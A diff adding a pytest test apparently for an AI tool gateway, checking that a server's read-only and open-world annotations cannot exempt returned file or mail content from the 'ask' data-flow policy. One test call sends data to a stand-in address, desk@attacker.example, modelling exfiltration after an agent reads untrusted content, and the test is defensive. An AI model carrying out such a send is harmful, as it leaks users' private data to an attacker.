@@ -103,6 +103,19 @@ async def test_labels_come_from_the_configuration_and_are_only_ever_tightened_by
         assert len(person.heard) == asked
 
 
+@pytest.mark.parametrize("hints", [{"openWorldHint": False}, {"readOnlyHint": True, "openWorldHint": False}])
+async def test_a_server_cannot_vouch_for_what_it_returns(
+    hints: JsonObject, offer: Offer, open_gateway: OpenGateway
+) -> None:
+    """The published filesystem server says so of its tools, and files are what others wrote."""
+    server = offer(SEND, {**READ, "annotations": hints}, result=result(MAIL))
+    async with open_gateway({"m": server}, policy={"flow": "ask"}) as gateway:
+        person = Person(yes)
+        await call(gateway, person, "m.read")
+        await call(gateway, person, "m.send", to="desk@attacker.example")
+        assert len(person.heard) == 1
+
+
 PAGE: JsonObject = {
     "name": "fetch",
     "description": "Fetch a page.",
